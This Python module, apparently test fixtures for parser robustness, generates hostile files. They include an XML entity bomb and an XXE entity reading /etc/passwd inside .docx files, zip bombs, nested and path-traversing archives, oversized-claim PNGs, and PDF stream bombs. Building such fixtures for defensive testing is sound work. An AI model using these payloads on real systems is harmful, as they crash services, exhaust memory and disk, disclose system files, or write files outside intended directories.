"""Files made to hurt whoever opens them; each is small on disk."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

from PIL import Image

_ENTITIES = b"""<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a0 "ha ha ha ha ha ha ha ha ha ha">
%s]>""" % b"\n".join(
    b'<!ENTITY a%d "%s">' % (number, b"&a%d;" % (number - 1) * 10) for number in range(1, 10)
)
_OUTSIDE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
_WORD_PARTS = {
    "[Content_Types].xml": b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
    b'package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.'
    b'openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" '
    b'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+'
    b'xml"/></Types>',
    "_rels/.rels": b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
    b'package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/'
    b'officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>'
    b"</Relationships>",
}


def zipped(members: dict[str, bytes]) -> bytes:
    """Return a ZIP archive of ``members``."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(name), data, zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def word_document(prolog: bytes, text: bytes) -> bytes:
    """Return a .docx whose body begins with ``prolog`` and says ``text``."""
    body = (
        prolog
        + b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        b"<w:body><w:p><w:r><w:t>" + text + b"</w:t></w:r></w:p></w:body></w:document>"
    )
    return zipped({**_WORD_PARTS, "word/document.xml": body})


def entity_bomb() -> bytes:
    """Return a .docx that grows to ten thousand million "ha"s when its entities are expanded."""
    return word_document(_ENTITIES, b"&a9;")


def outside_entity() -> bytes:
    """Return a .docx that asks for a file of the machine that reads it."""
    return word_document(_OUTSIDE, b"The secret is &secret;")


def inflating_document(size: int = 1024**3) -> bytes:
    """Return a .docx of some megabytes whose body has ``size`` bytes unpacked."""
    buffer = io.BytesIO()
    block = b"<!--" + b" " * (1024 * 1024 - 7) + b"-->"
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, data in _WORD_PARTS.items():
            archive.writestr(zipfile.ZipInfo(name), data, zipfile.ZIP_DEFLATED)
        with archive.open("word/document.xml", "w", force_zip64=True) as part:
            for _ in range(size // len(block)):
                part.write(block)
    return buffer.getvalue()


def nested_archives(depth: int, document: bytes) -> bytes:
    """Return an archive in an archive … ``depth`` times, with a document at the bottom."""
    data = zipped({"bottom.txt": document})
    for _ in range(depth - 1):
        data = zipped({"inner.zip": data})
    return data


def escaping_archive(document: bytes) -> bytes:
    """Return an archive whose members want to be written outside of it."""
    return zipped(
        {
            "../../escaped.txt": document,
            "/tmp/absolute.txt": document,  # noqa: S108 - the name is the point
            "C:\\windows\\drive.txt": document,
            "kept.txt": document,
        }
    )


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    checksum = zlib.crc32(kind + data)
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", checksum)


def claiming_png(width: int, height: int) -> bytes:
    """Return a one-bit PNG that claims so many pixels and delivers few."""
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    rows = zlib.compress(b"\0" * (1 + width // 8) * 4)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", rows)
        + _png_chunk(b"IEND", b"")
    )


def wide_png(width: int, height: int) -> bytes:
    """Return a real, empty PNG of so many pixels."""
    buffer = io.BytesIO()
    Image.new("1", (width, height), 1).save(buffer, "PNG")
    return buffer.getvalue()


def pdf_of_pages(count: int, *, claimed: int | None = None) -> bytes:
    """Return a PDF of ``count`` empty pages that claims ``claimed``."""
    objects = [b"<</Type/Catalog/Pages 2 0 R>>", b""]
    objects += [b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]>>"] * count
    kids = b" ".join(b"%d 0 R" % (3 + number) for number in range(count))
    objects[1] = b"<</Type/Pages/Count %d/Kids[%s]>>" % (
        count if claimed is None else claimed,
        kids,
    )
    body = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, content in enumerate(objects, start=1):
        offsets.append(len(body))
        body += b"%d 0 obj%s endobj\n" % (number, content)
    start = len(body)
    body += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    body += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    body += b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, start)
    return bytes(body)


def stream_bomb(size: int = 4 * 1024**3) -> bytes:
    """Return a PDF with a page whose content unpacks, twice over, to ``size`` blanks."""
    squeezer = zlib.compressobj(1)
    block = b" " * (1024 * 1024)
    once = b"".join(squeezer.compress(block) for _ in range(size // len(block)))
    content = zlib.compress(once + squeezer.flush(), 9)
    objects = (
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/Contents 4 0 R>>",
        b"<</Length %d/Filter[/FlateDecode/FlateDecode]>>stream\n%s\nendstream"
        % (len(content), content),
    )
    body = b"%PDF-1.7\n" + b"".join(
        b"%d 0 obj%s endobj\n" % (number, content) for number, content in enumerate(objects, 1)
    )
    return body + b"trailer<</Size 5/Root 1 0 R>>\n%%EOF\n"
